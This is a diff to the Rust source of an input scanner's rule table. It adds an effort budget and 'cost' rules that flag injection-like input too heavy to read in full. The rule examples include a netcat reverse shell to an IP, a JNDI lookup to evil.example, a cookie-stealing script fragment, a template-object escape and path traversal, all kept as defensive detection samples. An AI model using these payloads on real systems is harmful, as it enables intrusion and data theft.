@@ -1,6 +1,6 @@
 //! Every rule by its stable id: what it sees, an example, and how to leave it out.
 
-use super::{Class, ClassSet, Finding};
+use super::{Class, ClassSet, Effort, Finding, work};
 
 /// A rule as documentation and configuration know it.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -69,11 +69,15 @@ pub(super) struct Findings {
     best: Option<Rule>,
     /// The score of the best.
     score: u8,
+    /// The value has cost too much to be read on.
+    over: bool,
 }
 
 impl Findings {
-    pub(super) const fn new(classes: ClassSet, excluded: RuleSet) -> Self {
-        Self { classes, excluded, best: None, score: 0 }
+    /// Nothing yet; readers may spend what is left of `effort`.
+    pub(super) fn new(classes: ClassSet, excluded: RuleSet, effort: Effort) -> Self {
+        work::begin(effort);
+        Self { classes, excluded, best: None, score: 0, over: false }
     }
 
     pub(super) const fn wants(&self, class: Class) -> bool {
@@ -108,6 +112,26 @@ impl Findings {
     /// Whether what has been found leaves no doubt, so that nothing more need be looked for.
     pub(super) const fn is_sure(&self) -> bool {
         self.score >= 8
+    }
+
+    /// Whether the value has cost too much to be read on.
+    pub(super) const fn is_over(&self) -> bool {
+        self.over
+    }
+
+    /// Whether the value has cost too much to be read on, which is reported as `rule`; where that is excluded, as much again may
+    /// be spent.
+    #[inline]
+    pub(super) fn exceed(&mut self, rule: Rule) -> bool {
+        if !work::is_spent() {
+            return self.over;
+        }
+        self.report(rule);
+        self.over = !self.excluded.has(rule as usize);
+        if !self.over {
+            work::forgive();
+        }
+        self.over
     }
 
     pub(super) fn strongest(&self) -> Option<Finding> {
@@ -173,6 +197,9 @@ rules! {
     SqlStringOperator "sql-string-operator" Sqli 7
         "A string is closed, an operator follows, and a string is opened again."
         "x'||'y"
+    SqlCost "sql-cost" Sqli 4
+        "Quotes, operators and calls that each lead on, far more of them than text has: not read to its end. The example repeated, 256 KB."
+        "if("
     XssScriptTag "xss-script-tag" Xss 9
         "A script element, opened or closed."
         "<script>alert(7)</script>"
@@ -200,6 +227,9 @@ rules! {
     XssScriptAccess "xss-script-access" Xss 6
         "Script that reads cookies, rewrites the page or assembles code."
         "'+document.cookie+'"
+    XssCost "xss-cost" Xss 4
+        "The same of tags, declarations, attributes and calls."
+        "<?"
     PathTraversal "path-traversal" Path 8
         "Steps up the directory tree, plain or disguised."
         "../../../etc/hosts"
@@ -224,6 +254,9 @@ rules! {
     CommandShell "command-shell" Command 8
         "A shell, a listener or a download by its usual command line, an option or a formula that runs a command."
         "nc -e /bin/sh 192.0.2.7 99"
+    CommandCost "command-cost" Command 4
+        "The same of separators and commands."
+        ";w,"
     TemplateLookup "template-lookup" Template 9
         "A naming lookup in a log or configuration expression."
         "${jndi:ldap://evil.example/a}"
@@ -233,6 +266,9 @@ rules! {
     TemplateObject "template-object" Template 8
         "Reaching classes, modules or the process from a template."
         "{{''.__class__.__mro__}}"
+    TemplateCost "template-cost" Template 4
+        "The same of the delimiters of templates."
+        "${}"
     NosqlOperator "nosql-operator" Nosql 7
         "An operator of a document database as a name, in brackets of a name, or as a key inside a value."
         "user[$ne]"
@@ -283,7 +319,7 @@ mod tests {
 
     #[test]
     fn every_example_is_found_by_a_rule_of_its_class() {
-        for doc in &DOCS {
+        for doc in DOCS.iter().filter(|doc| !doc.id.ends_with("-cost")) {
             let found = scan(doc.example.as_bytes(), ClassSet::NONE.with(doc.class));
             assert!(found.is_some(), "{}: {}", doc.id, doc.example);
         }
